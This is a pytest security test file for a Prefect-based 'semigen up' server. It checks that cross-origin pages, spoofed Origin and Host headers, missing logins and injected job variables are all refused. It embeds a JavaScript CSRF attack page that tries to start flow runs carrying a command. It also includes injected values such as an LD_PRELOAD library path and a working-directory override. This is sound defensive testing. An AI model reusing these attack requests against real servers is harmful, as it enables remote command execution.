"""Attacks on the server of ``semigen up``: by a page of another origin, and by HTTP requests."""

from __future__ import annotations

import asyncio
import base64
import json
import subprocess
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, Any

import httpx
import pytest
from prefect.workers.process import ProcessJobConfiguration

from flows.login import login_file
from flows.service.pools import TEMPLATE
from tests.browser import browser_command
from tests.flows.common import give_code, wait_for
from tests.flows.services import Running, running

if TYPE_CHECKING:
    from conftest import Project

PAGE = """<!doctype html><title>attack</title><script>
const api = API, command = COMMAND, found = {};
const json = {"Content-Type": "application/json"};
async function attempt(name, call) {
  try { found[name] = await call(); } catch (error) { found[name] = String(error); }
}
function socket(path, message) {
  return new Promise(resolve => {
    const socket = new WebSocket(api.replace("http", "ws") + path);
    socket.onopen = () => {
      socket.send(JSON.stringify(message));
      setTimeout(() => resolve(1), 1000);
    };
    socket.onclose = () => resolve(0);
  });
}
(async () => {
  await attempt("deployments", async () => {
    const all = {method: "POST", headers: json, body: "{}"};
    const answer = await fetch(api + "/deployments/filter", all);
    return (await answer.json()).map(deployment => [deployment.id, deployment.entrypoint]);
  });
  const read = Array.isArray(found.deployments) ? found.deployments : [];
  const [id] = read.filter(([id, entrypoint]) => entrypoint.includes("predict"))
    .map(([id]) => id).concat(DEPLOYMENT);
  const run = JSON.stringify({
    state: {type: "SCHEDULED"}, parameters: {input: "x.csv", output: "y.csv"},
    job_variables: {command: command},
  });
  const url = api + "/deployments/" + id + "/create_flow_run";
  const start = {method: "POST", headers: json, body: run};
  await attempt("json", async () => (await fetch(url, start)).status);
  // Without a content type the browser asks the server for no permission (no preflight request).
  await attempt("simple", async () => (
    await fetch(url, {method: "POST", mode: "no-cors", body: new Blob([run])})).type);
  await attempt("socket", () => socket("/events/in", {type: "x"}));
  await fetch("/result", {method: "POST", body: JSON.stringify(found)});
})();
</script>"""


class Attacker(ThreadingHTTPServer):
    """A web server of another origin, whose page sends back what it could read."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Handler)
        self.page = ""
        self.found: dict[str, Any] = {}


class Handler(BaseHTTPRequestHandler):
    server: Attacker

    def do_GET(self) -> None:
        self.answer(self.server.page.encode())

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"]))
        self.server.found = json.loads(body)
        self.answer(b"")

    def answer(self, content: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(content)

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002
        """Log nothing."""


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    with Attacker() as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server
        server.shutdown()
        thread.join()


@pytest.fixture
def service(settled: Project) -> Iterator[Running]:
    with running(settled) as found:
        yield found


@contextmanager
def opened(address: str, profile: Path) -> Iterator[None]:
    """Open a page in a browser."""
    command = browser_command(f"--user-data-dir={profile}", "--remote-debugging-port=0")
    process = subprocess.Popen([*command, address], stderr=subprocess.DEVNULL)
    try:
        yield
    finally:
        process.kill()
        process.wait()


def deployment(service: Running, flow: str) -> str:
    return str(service.get(f"deployments/name/{flow}/semigen")["id"])


@pytest.mark.slow
@pytest.mark.timeout(300)
def test_page_of_another_origin_can_neither_read_nor_start_runs(
    service: Running, attacker: Attacker, tmp_path_factory: pytest.TempPathFactory
) -> None:
    owned = service.root / "owned"
    replacements = {
        "API": service.service.api_url,
        "COMMAND": f"touch {owned}",
        "DEPLOYMENT": deployment(service, "predict"),  # as if the page had guessed it
    }
    attacker.page = PAGE
    for name, value in replacements.items():
        attacker.page = attacker.page.replace(name, json.dumps(value))
    count = {"flows": {"name": {"any_": ["predict"]}}}
    address = f"http://localhost:{attacker.server_port}/"
    with opened(address, tmp_path_factory.mktemp("browser")):
        wait_for(lambda: bool(attacker.found), "the page did not run")
    time.sleep(10)  # a worker would have started the run
    assert not owned.exists()
    assert service.post("flow_runs/count", count) == 0
    assert attacker.found == {
        "deployments": "TypeError: Failed to fetch",
        "json": "TypeError: Failed to fetch",
        "simple": "opaque",  # sent, and refused
        "socket": 0,
    }


@pytest.mark.slow
@pytest.mark.timeout(300)
def test_requests_without_login_token_or_own_origin_are_refused(service: Running) -> None:
    api_url = service.service.api_url
    stored = login_file(service.root)
    assert stored.stat().st_mode & 0o777 == 0o600
    login = stored.read_text().strip()
    read = f"{api_url}/deployments/filter"
    foreign = {"Origin": "http://attacker.example"}
    rebound = {"Host": f"attacker.example:{service.service.port}"}
    basic = {"Authorization": f"Basic {base64.b64encode(login.encode()).decode()}"}
    token = csrf_token(api_url, basic)

    for headers in (foreign, rebound, foreign | rebound, {}):
        assert httpx.get(f"{api_url}/admin/version", headers=headers).status_code == 401
        assert httpx.get(f"{api_url}/csrf-token?client=x", headers=headers).status_code == 401
        assert httpx.post(read, json={}, headers=headers).status_code == 403
        assert httpx.post(read, json={}, headers=headers | token).status_code == 401
    assert httpx.post(read, json={}, headers=basic).status_code == 403
    wrong = {"Authorization": f"Basic {base64.b64encode(b'semigen:x').decode()}"}
    assert httpx.post(read, json={}, headers=wrong | token).status_code == 401

    ask = {"Access-Control-Request-Method": "POST"}
    own = {"Origin": service.service.url}
    assert httpx.options(read, headers=foreign | ask).status_code == 400
    assert httpx.options(read, headers=own | ask).status_code == 200
    allowed = httpx.post(read, json={}, headers=foreign | basic | token)
    assert "access-control-allow-origin" not in allowed.headers  # the browser hides the answer
    answer = httpx.post(read, json={}, headers=own | basic | token)
    assert answer.status_code == 200
    assert answer.headers["access-control-allow-origin"] == service.service.url

    owned = service.root / "owned"
    for variables in ({"command": f"touch {owned}"}, {"env": {"A": "b"}}, {"working_dir": "/"}):
        run = {"state": {"type": "SCHEDULED"}, "parameters": {}, "job_variables": variables}
        create = f"{api_url}/deployments/{deployment(service, 'train')}/create_flow_run"
        refused = httpx.post(create, json=run, headers=basic | token)
        assert refused.status_code == 422
        assert "Additional properties are not allowed" in refused.text
    run = {"state": {"type": "SCHEDULED"}, "parameters": {}}
    created = httpx.post(create, json=run, headers=basic | token).json()["id"]
    wait_for(lambda: service.state_of(created) == "COMPLETED")
    assert not owned.exists()


@pytest.mark.slow
@pytest.mark.timeout(300)
def test_generated_login_protects_a_server_that_other_hosts_reach_and_is_in_no_log(
    settled: Project,
) -> None:
    (settled.root / ".semigen").mkdir(mode=0o755)  # by an earlier version
    (settled.root / ".prefect").mkdir(mode=0o755)
    public = {"PREFECT_SERVER_API_HOST": "0.0.0.0", "PREFECT_SERVER_API_AUTH_STRING": ""}
    with running(settled, **public) as service:
        api_url = service.service.api_url
        assert httpx.get(f"{api_url}/admin/version").status_code == 401
        run = service.start()
        wait_for(lambda: service.state_of(run) == "COMPLETED")
        by_hand = settled.run("flows.train")
        assert by_hand.returncode == 0, by_hand.stderr
        refused = settled.run("flows.train", PREFECT_API_AUTH_STRING="semigen:x")
        assert refused.returncode == 1
        assert "error: the Prefect server at" in refused.stderr
        assert "requires a login: set PREFECT_API_AUTH_STRING" in refused.stderr

        password = login_file(service.root).read_text().strip().partition(":")[2]
        files = [path for path in service.root.rglob("*") if path.is_file()]
        shown = {str(path): path.read_bytes() for path in files}
        for kind in ("artifacts", "logs", "flow_runs", "events", "block_documents"):
            shown[kind] = json.dumps(service.post(f"{kind}/filter", {})).encode()
        for process in service.processes():
            shown[f"command {process.pid}"] = " ".join(process.cmdline()).encode()
        holders = [place for place, content in shown.items() if password.encode() in content]
        assert holders == [str(login_file(service.root))]
        assert_private(service.root / ".prefect")
        assert (service.root / ".semigen").stat().st_mode & 0o077 == 0
        assert (service.root / "model").stat().st_mode & 0o777 == 0o644, "outputs are shared"


def assert_private(folder: Path) -> None:
    """Check that others can neither enter a folder nor read its database, logs and settings."""
    assert folder.stat().st_mode & 0o077 == 0
    files = [folder / "prefect.db", *(folder / "service").iterdir()]
    assert [str(path) for path in files if path.stat().st_mode & 0o077] == []


@pytest.mark.slow
@pytest.mark.timeout(300)
def test_login_without_a_password_is_refused(settled: Project) -> None:
    give_code(settled.root)
    done = settled.run("flows.service.cli", "up", PREFECT_SERVER_API_AUTH_STRING="operator")
    assert done.returncode == 1
    assert done.stderr == "error: PREFECT_SERVER_API_AUTH_STRING: must be user:password\n"


def csrf_token(api_url: str, login: dict[str, str]) -> dict[str, str]:
    answer = httpx.get(f"{api_url}/csrf-token?client=test", headers=login)
    return {"Prefect-Csrf-Token": answer.json()["token"], "Prefect-Csrf-Client": "test"}


def test_worker_ignores_job_variables_that_the_server_has_not_checked() -> None:
    values = {"command": "touch owned", "env": {"PYTHONPATH": "/tmp"}, "working_dir": "/tmp"}
    values |= {"env.LD_PRELOAD": "/tmp/owned.so"}
    configuration = asyncio.run(
        ProcessJobConfiguration.from_template_and_values(TEMPLATE, values, client=object())
    )
    assert configuration.command is None
    assert configuration.env == {}
    assert configuration.working_dir is None
